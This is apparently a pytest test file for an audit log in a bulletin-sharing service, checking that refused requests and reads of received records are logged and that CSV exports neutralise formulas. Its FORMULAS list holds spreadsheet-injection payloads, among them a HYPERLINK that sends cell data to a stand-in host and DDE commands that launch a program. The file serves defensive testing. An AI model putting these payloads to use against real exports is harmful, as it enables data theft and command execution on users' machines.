"""Reads of received records through lists, and every refused request (403), are in the audit log: one
entry per request, not one per item. And the audit CSV neutralises formulas typed as usernames (hole 3)."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
import typer
from fastapi.testclient import TestClient
from sqlalchemy import select
from typer.testing import CliRunner

from sarhad.audit.cli import register
from sarhad.audit.models import AuditEntry
from sarhad.core.node import Node
from support.inprocess import deliver
from support.pairs import bearer

BULLETIN: dict[str, Any] = {
    "title": "Joint patrol postponed",
    "body": "Sandstorm near Mirjaveh.",
    "tlp": "amber",
}


def _entries(node: Node, action: str) -> list[AuditEntry]:
    with node.sessions() as session:
        query = select(AuditEntry).where(AuditEntry.action == action).order_by(AuditEntry.seq)
        return list(session.scalars(query).all())


def _bulletin(client: TestClient, headers: dict[str, str], **changes: Any) -> str:
    answer = client.post("/api/v1/bulletins", json={**BULLETIN, **changes}, headers=headers)
    assert answer.status_code == 201, answer.text
    return str(answer.json()["id"])


def test_a_list_with_received_records_is_audited_once_per_request(
    pk: Node,
    ir: Node,
    client: TestClient,
    liaison: dict[str, str],
    ir_client: TestClient,
    ir_liaison: dict[str, str],
) -> None:
    received = sorted(_bulletin(ir_client, ir_liaison, release_to=["PK"]) for _ in range(3))
    deliver(ir, pk)
    _bulletin(client, liaison)  # an own bulletin: listing it is not a sensitive read

    assert len(client.get("/api/v1/bulletins", headers=liaison).json()) == 4
    [entry] = _entries(pk, "bulletin.list")
    assert (entry.actor, entry.outcome, entry.record_kind) == ("liaison", "ok", "bulletin")
    assert entry.details["received"] == 3 and entry.details["by_origin"] == {"IR": 3}
    assert sorted(entry.details["records"]) == [f"IR/{i}" for i in received]

    client.get("/api/v1/bulletins", headers=liaison)
    assert len(_entries(pk, "bulletin.list")) == 2
    client.get(
        "/api/v1/bulletins", params={"origin": "PK"}, headers=liaison
    )  # only own ones: nothing to audit
    assert len(_entries(pk, "bulletin.list")) == 2


def test_every_refused_request_is_audited_as_denied(
    pk: Node, ir: Node, client: TestClient, ir_client: TestClient, ir_liaison: dict[str, str]
) -> None:
    received = _bulletin(ir_client, ir_liaison, release_to=["PK"])
    deliver(ir, pk)
    operator, liaison = bearer(client, "operator"), bearer(client, "liaison")

    assert client.post("/api/v1/bulletins", json=BULLETIN, headers=operator).status_code == 403
    assert client.get("/api/v1/audit", headers=operator).status_code == 403
    changed = client.put(f"/api/v1/bulletins/{received}", json=BULLETIN, headers=liaison)
    assert changed.status_code == 403 and changed.json()["error"]["code"] == "not_originator"

    denied = client.get("/api/v1/audit", params={"outcome": "denied"}, headers=bearer(client, "aud")).json()
    got = [(e["actor"], e["action"], e["details"]["method"], e["details"]["path"], e["details"]["code"])
           for e in reversed(denied["entries"])]  # fmt: skip
    assert got == [
        ("operator", "access.denied", "POST", "/api/v1/bulletins", "forbidden"),
        ("operator", "access.denied", "GET", "/api/v1/audit", "forbidden"),
        ("liaison", "access.denied", "PUT", f"/api/v1/bulletins/{received}", "not_originator"),
    ]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"help")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _check_neutralised(rows: list[dict[str, str]]) -> None:
    actors = {row["actor"] for row in rows if row["action"] == "auth.login" and row["outcome"] == "failed"}
    assert actors == {"'" + formula for formula in FORMULAS}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value.lstrip("-").isdigit(), (
                value
            )
        assert row["details"] == "" or isinstance(json.loads(row["details"]), dict)


@pytest.fixture
def failed_sign_ins(client: TestClient) -> None:
    for formula in FORMULAS:
        answer = client.post("/api/v1/auth/token", data={"username": formula, "password": "wrong-password"})
        assert answer.status_code == 401


@pytest.mark.usefixtures("failed_sign_ins")
def test_the_audit_csv_of_the_api_neutralises_formulas_in_usernames(client: TestClient) -> None:
    answer = client.get("/api/v1/audit", params={"format": "csv"}, headers=bearer(client, "aud"))
    assert answer.status_code == 200
    _check_neutralised(_csv_rows(answer.text))


@pytest.mark.usefixtures("failed_sign_ins")
def test_the_audit_csv_of_the_command_line_neutralises_formulas_and_writes_details_as_json(pk: Node) -> None:
    app = typer.Typer()

    @app.callback()
    def root() -> None:
        """sarhad (audit commands only)."""

    register(app)
    result = CliRunner().invoke(app, ["audit", "--data-dir", str(pk.settings.data_dir), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = _csv_rows(result.stdout)
    _check_neutralised(rows)
    created = [json.loads(row["details"]) for row in rows if row["action"] == "user.create"]
    assert {d["roles"][0] for d in created} == {"liaison_officer", "operator", "auditor"}
